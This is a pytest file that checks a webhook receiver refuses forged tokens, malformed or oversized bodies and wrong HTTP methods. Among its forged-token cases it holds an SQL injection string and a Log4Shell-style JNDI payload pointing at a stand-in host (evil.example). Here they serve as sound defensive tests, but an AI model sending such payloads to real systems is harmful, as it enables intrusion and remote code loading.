"""Requests that are no events of ours: each is refused, and changes nothing."""

import gzip
import json
from datetime import timedelta
from typing import Any

import pytest
from attrs import field, frozen
from hypothesis import given
from hypothesis import strategies as st

from alphasms_async.webhooks import HookKind
from tests.webhooks.hooks import DOCUMENTED, NOW, Kept, ask, hook_tokens, query_of, receiver_of
from tests.webhooks.raw import LEFT, exchange, part, scope_of, status_of

pytestmark = pytest.mark.anyio

GOOD = query_of()
TOKEN = GOOD.removeprefix("token=")
ACCOUNT = query_of(HookKind.ACCOUNT, None)
FORM = {"content-type": "application/x-www-form-urlencoded"}
JSON = {"content-type": "application/json"}
MULTIPART = {"content-type": "multipart/form-data; boundary=b"}


@frozen
class Bad:
    """A request, and the status it is refused with."""

    status: int
    query: str = GOOD
    body: bytes = DOCUMENTED
    method: str = "POST"
    headers: dict[str, str] = field(factory=dict[str, str])


def forged(query: str) -> Bad:
    return Bad(403, query)


def unreadable(body: bytes, headers: dict[str, str] | None = None, query: str = GOOD) -> Bad:
    return Bad(400, query, body, headers=headers or {})


def expired(ago: timedelta) -> str:
    """Return the query of a hook that was good until `ago` before now."""
    then = hook_tokens(now=NOW - timedelta(days=30))
    return query_of(expires=NOW - ago, tokens=then)


FORGED = {
    "no query": forged(""),
    "no token": forged("id=100500"),
    "an empty token": forged("token="),
    "a token without its sign": forged("token"),
    "a token of one letter": forged("token=a"),
    "the word null": forged("token=null"),
    "a list of tokens": forged(f"token[]={TOKEN}"),
    "a token in capitals": forged(f"token={TOKEN.upper()}"),
    "a token in small letters": forged(f"token={TOKEN.lower()}"),
    "a token under a name in capitals": forged(f"TOKEN={TOKEN}"),
    "a token with a letter less": forged(GOOD[:-1]),
    "a token with a letter more": forged(GOOD + "A"),
    "a token with its first letter changed": forged("token=" + "z" + TOKEN[1:]),
    "a token with its last letter changed": forged(GOOD[:-1] + ("A" if GOOD[-1] != "A" else "B")),
    "a token backwards": forged(f"token={TOKEN[::-1]}"),
    "a token with padding": forged(f"{GOOD}=="),
    "a token with a space": forged(f"{GOOD}%20"),
    "a token with a line end": forged(f"{GOOD}%0d%0a"),
    "a token with a NUL": forged(f"{GOOD}%00"),
    "a token in quotes": forged(f"token=%22{TOKEN}%22"),
    "a token escaped twice": forged("token=" + "".join(f"%25{ord(one):02X}" for one in TOKEN)),
    "a token twice": forged(f"{GOOD}&{GOOD}"),
    "a good token behind a bad one": forged(f"token=bad&{GOOD}"),
    "a bad token behind a good one": forged(f"{GOOD}&token=bad"),
    "a bad token glued on": forged(f"{GOOD}?token=bad"),
    "two good tokens": forged(f"{GOOD}&{ACCOUNT}"),
    "two halves of good tokens": forged(f"token={TOKEN[:12]}{ACCOUNT[-18:]}"),
    "the MAC of another ref": forged(query_of(ref="c:12.2")[:-22] + TOKEN[-22:]),
    "a token of another secret": forged(query_of(tokens=hook_tokens("x" * 16))),
    "a token of a secret that differs in case": forged(
        query_of(tokens=hook_tokens("A-SECRET-OF-THE-TESTS-5F0C"))
    ),
    "a token that is all zeros": forged("token=" + "A" * 40),
    "a very long token": forged("token=" + "A" * 10_000),
    "a token behind a semicolon": forged(f"a=1;{GOOD}"),
    "a token in another field": forged(f"hook=https%3A%2F%2Fapp.example%2F%3F{GOOD}"),
    "bytes that are no text": forged("token=%ff%fe%fd"),
    "letters that look alike": forged("token=" + "%D0%90" * 40),
    "expired just now": forged(expired(timedelta(0))),
    "expired a second ago": forged(expired(timedelta(seconds=1))),
    "expired a week ago": forged(expired(timedelta(days=7))),
    "an SQL injection": forged("token=' OR 1=1 --"),
    "a template injection": forged("token=${jndi:ldap://evil.example}"),
}
UNREADABLE = {
    "no body": unreadable(b""),
    "a body of spaces": unreadable(b" \r\n\t "),
    "an empty object": unreadable(b"{}"),
    "an empty list": unreadable(b"[]"),
    "two events": unreadable(b"[" + DOCUMENTED + b"," + DOCUMENTED + b"]"),
    "a list of words": unreadable(b'["ANSWERED"]'),
    "a JSON text": unreadable(b'"ANSWERED"', JSON),
    "a JSON number": unreadable(b"100500", JSON),
    "a JSON null": unreadable(b"null", JSON),
    "half an event": unreadable(DOCUMENTED[:40]),
    "an event and more": unreadable(DOCUMENTED + DOCUMENTED),
    "an event in Python's words": unreadable(b"{'id': 1, 'status': 'ANSWERED'}"),
    "a comma too many": unreadable(b'{"status": "ANSWERED",}'),
    "no status": unreadable(b'{"id": 100500}'),
    "a null status": unreadable(b'{"id": 100500, "status": null}'),
    "an empty status": unreadable(b'{"id": 100500, "status": ""}'),
    "a status in a list": unreadable(b'{"id": 100500, "status": ["ANSWERED"]}'),
    "a status in an object": unreadable(b'{"id": 100500, "status": {"word": "BUSY"}}'),
    "two statuses": unreadable(b'{"status": "BUSY", "status": "ANSWERED"}'),
    "an id that is no number": unreadable(b'{"id": NaN, "status": "BUSY"}'),
    "an id without end": unreadable(b'{"id": Infinity, "status": "BUSY"}'),
    "an id of five thousand digits": unreadable(b'{"status": "BUSY", "id": 1%s}' % (b"0" * 5000)),
    "an event of nothing": unreadable(b'{"status": "BUSY"}', query=ACCOUNT),
    "an event of id 0": unreadable(b'{"id": 0, "status": "BUSY"}', query=ACCOUNT),
    "an event of id -1": unreadable(b'{"id": -1, "status": "BUSY"}', query=ACCOUNT),
    "an event of id 2**63": unreadable(b'{"id": %d, "status": "BUSY"}' % 2**63, query=ACCOUNT),
    "an event of id true": unreadable(b'{"id": true, "status": "BUSY"}', query=ACCOUNT),
    "lists without end": unreadable(b"[" * 60_000),
    "objects without end": unreadable(b'{"a":' * 10_000),
    "lists in a field": unreadable(b'{"status": "BUSY", "a": %s%s}' % (b"[" * 9_000, b"]" * 9_000)),
    "JSON in UTF-16": unreadable(DOCUMENTED.decode().encode("utf-16"), JSON),
    "JSON that is no UTF-8": unreadable(b'{"status": "\xff"}', JSON),
    "JSON that was packed": unreadable(gzip.compress(DOCUMENTED), {"content-encoding": "gzip"}),
    "a form without a status": unreadable(b"id=100500", FORM),
    "a form with an empty status": unreadable(b"id=100500&status=", FORM),
    "a form of thousands of fields": unreadable(b"&".join([b"status=BUSY"] * 5_000), FORM),
    "a form that is no UTF-8": unreadable("status=зайнято".encode("cp1251"), FORM),
    "a form in parts": unreadable(
        b'--b\r\nContent-Disposition: form-data; name="status"\r\n\r\nBUSY\r\n--b--\r\n', MULTIPART
    ),
    "XML": unreadable(b"<?xml version='1.0'?><status><msg id='1'>102</msg></status>"),
    "HTML": unreadable(b"<!doctype html><h1>It works!</h1>"),
    "NULs": unreadable(bytes(1000)),
    "the token in the body alone": Bad(403, "", json.dumps({"token": TOKEN}).encode()),
    "a form beside fields in the query": unreadable(b"a=1", FORM, f"{GOOD}&id=1&status=BUSY"),
    "a query without a status": Bad(400, f"{GOOD}&id=1", b"", "GET"),
}
TOO_LARGE = {
    "a byte too long": Bad(413, body=DOCUMENTED.ljust(65_537)),
    "a megabyte": Bad(413, body=b"a" * 2**20),
    "a long length": Bad(413, headers={"content-length": "65537"}),
    "a longer length": Bad(413, headers={"content-length": "9" * 5000}),
}
WRONG_METHOD = {
    method: Bad(405, method=method)
    for method in ("HEAD", "OPTIONS", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "get", "ЩО")
}
REFUSED = {**FORGED, **UNREADABLE, **TOO_LARGE, **WRONG_METHOD}


@pytest.mark.parametrize("bad", REFUSED.values(), ids=REFUSED)
async def test_bad_request_is_refused_and_changes_nothing(bad: Bad) -> None:
    """Whatever is wrong with a request, its status says whose fault it is; no handler is called."""
    kept = Kept()
    scope = scope_of(bad.query, method=bad.method, headers=raw(bad.headers))
    assert bad.status == await status_of(receiver_of(kept), part(bad.body), scope=scope)
    assert kept.events == []


def raw(headers: dict[str, str]) -> list[tuple[bytes, bytes]]:
    return [(name.encode(), value.encode()) for name, value in headers.items()]


def test_the_list_of_refusals_is_long() -> None:
    """More than sixty ways to be wrong are tried."""
    assert len(REFUSED) > 90


@pytest.mark.parametrize("bad", REFUSED.values(), ids=REFUSED)
async def test_refusal_tells_nothing_of_the_request(bad: Bad) -> None:
    """A refusal is a line of our own, whatever was sent."""
    scope = scope_of(bad.query, method=bad.method, headers=raw(bad.headers))
    _, body = await exchange(receiver_of(Kept()), part(bad.body), scope=scope)
    assert body["body"] in {
        b"no event can be read in this\n",
        b"this hook is not proven\n",
        b"an event comes by GET or POST\n",
        b"the body is too large\n",
    }


@pytest.mark.parametrize(
    "bad", [*FORGED.values(), *WRONG_METHOD.values()], ids=[*FORGED, *WRONG_METHOD]
)
async def test_body_of_a_stranger_is_not_read(bad: Bad) -> None:
    """What is not proven is refused before anything of its body is asked for."""
    sent: list[Any] = []

    async def receive() -> Any:
        raise AssertionError("the body was asked for")

    async def send(message: Any) -> None:
        sent.append(message)

    await receiver_of(Kept())(scope_of(bad.query, method=bad.method), receive, send)
    assert sent[0]["status"] == bad.status


async def test_other_methods_are_told_which_are_right() -> None:
    """A 405 says which methods there are."""
    answer = await ask(receiver_of(Kept()), method="PUT")
    assert answer.headers["allow"] == "GET, POST"


async def test_body_that_grows_too_large_is_not_read_on() -> None:
    """A body without a length is counted, and given up where it is too long."""
    parts = [part(b" " * 40_000, more=True)] * 2
    assert await status_of(receiver_of(Kept()), *parts) == 413


async def test_longest_body_is_read() -> None:
    """A body that is as long as it may be is an event."""
    kept = Kept()
    body = DOCUMENTED.ljust(65_536)
    scope = scope_of(headers=raw({"content-length": "65536"}))
    assert await status_of(receiver_of(kept), part(body), scope=scope) == 200
    assert len(kept.events) == 1


@pytest.mark.parametrize("length", ["", "-1", "abc", "1.5", "+5", "٣"])
async def test_length_that_is_no_number_is_not_believed(length: str) -> None:
    """What the server let through is counted instead."""
    scope = scope_of(headers=raw({"content-length": length}))
    assert await status_of(receiver_of(Kept()), part(DOCUMENTED), scope=scope) == 200


async def test_limit_can_be_set() -> None:
    """Whoever takes smaller bodies only says so."""
    receiver = receiver_of(Kept(), max_bytes=len(DOCUMENTED) - 1)
    assert await status_of(receiver) == 413


async def test_refused_event_is_not_remembered() -> None:
    """What was refused is taken when it comes again with its proof."""
    kept = Kept()
    receiver = receiver_of(kept)
    assert (await ask(receiver, "token=bad")).status_code == 403
    assert (await ask(receiver)).status_code == 200


@given(
    place=st.integers(min_value=0, max_value=len(TOKEN) - 1),
    character=st.characters(max_codepoint=255),
)
async def test_mutated_token_is_refused(place: int, character: str) -> None:
    """A token with any one character changed to any other is refused."""
    kept = Kept()
    mutated = f"token={TOKEN[:place]}{character}{TOKEN[place + 1 :]}"
    status = await status_of(receiver_of(kept), scope=scope_of(mutated))
    assert (status == 200) is (mutated == GOOD)
    assert len(kept.events) == (mutated == GOOD)


ANSWERS = {200, 400, 403, 405, 408, 413}


@given(query=st.binary(max_size=200), body=st.binary(max_size=200), method=st.text(max_size=8))
async def test_random_request_is_refused(query: bytes, body: bytes, method: str) -> None:
    """Nothing drawn by lot is an event, and nothing is an error of ours."""
    kept = Kept()
    scope = scope_of(query.decode("latin-1"), method=method)
    status = await status_of(receiver_of(kept), part(body), scope=scope)
    assert status in ANSWERS - {200}
    assert kept.events == []


@given(body=st.binary(max_size=400), cuts=st.integers(min_value=1, max_value=5), left=st.booleans())
async def test_random_body_of_a_good_hook_is_no_error(body: bytes, cuts: int, left: bool) -> None:  # noqa: FBT001 - drawn by hypothesis
    """Any bytes, in any parts, cut off or whole, are an event, refused, or left alone."""
    kept = Kept()
    parts = [part(body[start::cuts], more=True) for start in range(cuts)]
    status = await status_of(receiver_of(kept), *parts, LEFT if left else part(b""))
    assert status in ({None} if left else ANSWERS)
    assert len(kept.events) == (status == 200)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner),
    max_leaves=6,
)
fields = st.sampled_from(["id", "msg_id", "phone", "status", "state", "duration", "dtmf", "token"])
objects = st.dictionaries(fields, json_values) | st.dictionaries(st.text(), json_values)
hooks = st.sampled_from([query_of(kind) for kind in HookKind if kind is not HookKind.ACCOUNT])


@given(told=objects | st.lists(objects, max_size=2) | json_values, query=hooks | st.just(ACCOUNT))
async def test_random_json_of_a_good_hook_is_no_error(told: Any, query: str) -> None:
    """Any JSON is an event or refused."""
    kept = Kept()
    body = json.dumps(told).encode()
    status = await status_of(receiver_of(kept), part(body), scope=scope_of(query))
    assert status in {200, 400}
    assert len(kept.events) == (status == 200)
